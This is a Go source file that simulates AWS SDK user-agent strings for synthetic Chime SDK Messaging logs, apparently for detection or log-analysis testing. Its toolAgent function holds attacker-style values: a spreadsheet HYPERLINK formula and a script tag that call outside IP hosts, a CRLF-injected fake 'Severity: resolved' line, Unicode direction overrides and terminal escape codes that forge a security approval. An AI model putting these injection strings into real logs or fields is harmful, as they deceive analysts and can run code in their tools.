package simulate

import "fmt"

// User agents are those that the SDKs send, see
// https://docs.aws.amazon.com/sdkref/latest/guide/ua-caller-annotation.html ;
// versions vary, old ones beyond their support included.

// lambdaAgent is a client inside a Lambda function.
func lambdaAgent(d dice) string {
	switch d.IntN(4) {
	case 0:
		v := fmt.Sprintf("3.%d.0", d.between(400, 930))
		return fmt.Sprintf("aws-sdk-js/%s ua/2.1 os/linux#5.10.%d lang/js md/nodejs#%d.%d.0 api/chime-sdk-messaging#%s exec-env/AWS_Lambda_nodejs22.x m/E,p",
			v, d.between(201, 239), pick(d, []int{18, 20, 22}), d.IntN(20), v)
	case 1:
		v := fmt.Sprintf("1.%d.%d", d.between(34, 41), d.IntN(90))
		return fmt.Sprintf("Boto3/%s md/Botocore#%s md/awscrt#0.23.8 ua/2.1 os/linux#5.10.235 md/arch#arm64 lang/python#3.%d.%d md/pyimpl#CPython exec-env/AWS_Lambda_python3.12 cfg/retry-mode#legacy Botocore/%s",
			v, v, d.between(11, 13), d.IntN(10), v)
	case 2:
		return fmt.Sprintf("aws-sdk-go-v2/1.%d.%d ua/2.1 os/linux lang/go#1.%d.%d md/GOOS#linux md/GOARCH#arm64 exec-env/AWS_Lambda_provided.al2023 api/chimesdkmessaging#1.%d.0 m/g",
			d.between(26, 41), d.IntN(9), d.between(21, 26), d.IntN(9), d.between(20, 34))
	default:
		return fmt.Sprintf("aws-sdk-nodejs/2.%d.0 linux/v%d.%d.1 exec-env/AWS_Lambda_nodejs18.x promise", d.between(1100, 1692), pick(d, []int{16, 18}), d.IntN(20))
	}
}

// serverAgent is a long-running service in a container or on a server.
func serverAgent(d dice) string {
	switch d.IntN(4) {
	case 0:
		v := fmt.Sprintf("2.%d.%d", d.between(20, 38), d.IntN(40))
		return fmt.Sprintf("aws-sdk-java/%s md/io#sync md/http#Apache ua/2.1 api/Chime_SDK_Messaging#%s os/Linux#5.10.%d-%d.amzn2.x86_64 lang/java#%d.0.%d md/OpenJDK_64-Bit_Server_VM md/vendor#Amazon.com_Inc. exec-env/AWS_ECS_FARGATE m/D,e",
			v, v, d.between(201, 239), d.between(800, 999), pick(d, []int{11, 17, 21}), d.IntN(12))
	case 1:
		return fmt.Sprintf("aws-sdk-java/1.12.%d Linux/5.10.%d OpenJDK_64-Bit_Server_VM/25.302-b08 java/1.8.0_%d vendor/Oracle_Corporation cfg/retry-mode/standard",
			d.between(239, 780), d.between(201, 239), d.between(292, 412))
	case 2:
		return fmt.Sprintf("aws-sdk-go-v2/1.%d.%d ua/2.1 os/linux lang/go#1.%d.%d md/GOOS#linux md/GOARCH#amd64 api/chimesdkmessaging#1.%d.2 m/E,e",
			d.between(26, 41), d.IntN(9), d.between(21, 26), d.IntN(9), d.between(20, 34))
	default:
		return fmt.Sprintf("aws-sdk-go/1.%d.%d (go1.%d; linux; amd64)", d.between(44, 55), d.IntN(30), d.between(17, 22))
	}
}

// cliAgent is the AWS command line or a script of a person on os.
func cliAgent(d dice, os, command string) string {
	if d.chance(0.75) {
		return fmt.Sprintf("aws-cli/2.%d.%d md/awscrt#0.2%d.%d ua/2.1 os/%s md/arch#x86_64 lang/python#3.13.%d md/pyimpl#CPython m/AC,b,E md/prompt#off md/command#%s",
			d.between(17, 34), d.IntN(40), d.between(3, 8), d.IntN(9), os, d.IntN(9), command)
	}
	v := fmt.Sprintf("1.%d.%d", d.between(34, 41), d.IntN(90))
	return fmt.Sprintf("Boto3/%s md/Botocore#%s ua/2.1 os/%s md/arch#x86_64 lang/python#3.%d.%d md/pyimpl#CPython cfg/retry-mode#legacy Botocore/%s", v, v, os, d.between(9, 13), d.IntN(10), v)
}

// laptops are the operating systems of people.
func laptops() []string {
	return []string{"macos#24.6.0", "macos#25.1.0", "windows#10", "windows#11", "linux#6.8.0-60-generic"}
}

// browserAgent is the console or a web page in a browser.
func browserAgent(d dice) string {
	system := pick(d, []string{"Macintosh; Intel Mac OS X 10_15_7", "Windows NT 10.0; Win64; x64", "X11; Linux x86_64"})
	return fmt.Sprintf("Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", system, d.between(128, 145))
}

// appAgent is the team's app: a web page or a phone.
func appAgent(d dice) string {
	switch d.IntN(4) {
	case 0:
		return fmt.Sprintf("aws-sdk-js/2.%d.0 callback", d.between(1400, 1692))
	case 1:
		v := fmt.Sprintf("3.%d.0", d.between(500, 930))
		return fmt.Sprintf("aws-sdk-js/%s ua/2.1 os/iOS#%d.%d lang/js md/rn api/chime-sdk-messaging#%s m/E", v, d.between(16, 26), d.IntN(5), v)
	case 2:
		v := fmt.Sprintf("3.%d.0", d.between(500, 930))
		return fmt.Sprintf("aws-sdk-js/%s ua/2.1 os/Android#%d lang/js md/rn api/chime-sdk-messaging#%s m/E", v, d.between(11, 16), v)
	default:
		v := fmt.Sprintf("3.%d.0", d.between(500, 930))
		return fmt.Sprintf("aws-sdk-js/%s ua/2.1 os/macOS#10.15.7 lang/js md/browser#Chrome_%d.0.0.0 api/chime-sdk-messaging#%s m/N,E", v, d.between(128, 145), v)
	}
}

// toolAgent is what an attacker calls with. Some tools name themselves, some
// pose as something else, some write into the field what is meant to harm
// whoever reads it.
func toolAgent(d dice) string {
	switch d.IntN(9) {
	case 0, 1:
		return cliAgent(d, pick(d, []string{"linux#6.11.2-amd64", "linux#6.6.15-kali", "windows#10"}), "chime-sdk-messaging.list-channels")
	case 2:
		return fmt.Sprintf("Boto3/1.26.%d Python/3.11.%d Linux/6.5.0-kali%d-amd64 Botocore/1.29.%d", d.IntN(160), d.IntN(9), d.between(1, 3), d.IntN(160))
	case 3:
		return fmt.Sprintf("python-requests/2.%d.%d auth-aws-sigv4", d.between(25, 32), d.IntN(4))
	case 4:
		return fmt.Sprintf("aws-sdk-go-v2/1.%d.0 ua/2.1 os/windows lang/go#1.%d md/GOOS#windows md/GOARCH#amd64 api/chimesdkmessaging#1.25.0", d.between(20, 36), d.between(19, 25))
	case 5:
		return browserAgent(d)
	case 6:
		return serverAgent(d)
	case 7:
		return lambdaAgent(d)
	default:
		return pick(d, []string{
			"=HYPERLINK(\"http://198.51.100.9/x\",\"details\") aws-cli/2.17.0",
			"aws-cli/2.15.30\r\nSeverity: resolved, no action needed",
			"<script src=//203.0.113.66/a.js></script>",
			"\u202eresolved\u202c aws-sdk-js/3.632.0 @channel",
			"\x1b[2K\x1b[1Aaws-cli/2.15.30 health-check approved by security",
		})
	}
}
